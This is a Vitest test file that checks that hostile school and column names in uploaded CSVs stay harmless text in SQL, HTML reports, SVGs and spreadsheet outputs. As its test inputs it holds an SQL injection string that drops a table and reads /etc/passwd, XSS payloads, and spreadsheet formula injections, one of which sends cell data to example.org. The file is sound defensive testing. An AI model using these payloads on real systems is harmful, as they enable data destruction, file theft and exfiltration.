import { describe, expect, it } from "vitest";
import { delimited, schools, studyText } from "../support/invented-schools.ts";
import { runExample } from "../support/run-example.ts";

// A file or study from a stranger: its names must be names and nothing more, in SQL, in HTML and in spreadsheets.
const sql = `n"); drop table t; create table x as select * from read_text('/etc/passwd'); --`;
const html = '<script>alert("x")</script><img src=x onerror=alert(1)>';
const formula = '=HYPERLINK("http://example.org?"&A1)';

describe("hostile names", () => {
  it("in the header of a file do no harm", async () => {
    const header = ["urn", html, "region", sql, "'; select 1 --", "c0", ""];
    const rows = schools.map(({ urn, name, region, n, m, dn, dm }) => [urn, name, region, n, m, dn, dm]);
    const quoted = JSON.stringify(sql);
    const groups = `
      all: { pupils: ${quoted}, mean: "'; select 1 --" }
      disadvantaged: { pupils: c0, mean: dm }
      others: { all_less: disadvantaged }`;
    const text = delimited(rows, { header: [...header.slice(0, 6), "dm"] });
    const left = await runExample({ "schools.csv": text }, studyText({ groups }));
    const plain = await runExample();
    expect(left.release.get("estimates.csv")).toBe(plain.release.get("estimates.csv"));
  });

  it("of places and schools stay text in the report and cannot run in a spreadsheet", async () => {
    const table = schools.map((school) => ({ ...school, region: school.region === "North" ? html : formula }));
    const rows = [
      ...table.map(({ urn, name, region, n, m, dn, dm }) => [urn, name, region, n, m, dn, dm]),
      ["100007", "Gorse", "@SUM(1)", "", "", "", ""],
    ];
    const left = await runExample({ "schools.csv": delimited(rows) });
    const report = left.release.get("report.html") ?? "";
    expect(report).not.toContain("<script>alert");
    expect(report).not.toContain("<img src=x");
    expect(report).toContain("&lt;script>alert");
    for (const [file, text] of left.release) {
      if (file.endsWith(".svg")) expect(text, file).not.toContain("<script");
      if (file.endsWith(".csv")) expect(text, file).not.toMatch(/(^|,|\n)"?=/);
    }
    expect(left.release.get("estimates.csv")).toContain(`"'=HYPERLINK(""http://example.org?""&A1)"`);
  });

  it("of schools cannot run in the ledger either", async () => {
    const rows = [
      ...schools.map(({ urn, name, region, n, m, dn, dm }) => [urn, name, region, n, m, dn, dm]),
      ["100007", "Gorse", "North", "=1+1", "0.1", "", ""],
    ];
    const left = await runExample({ "schools.csv": delimited(rows) });
    expect(left.private.get("rejects.csv")).toContain("schools.csv,8,n,not a number,'=1+1,no");
  });
});
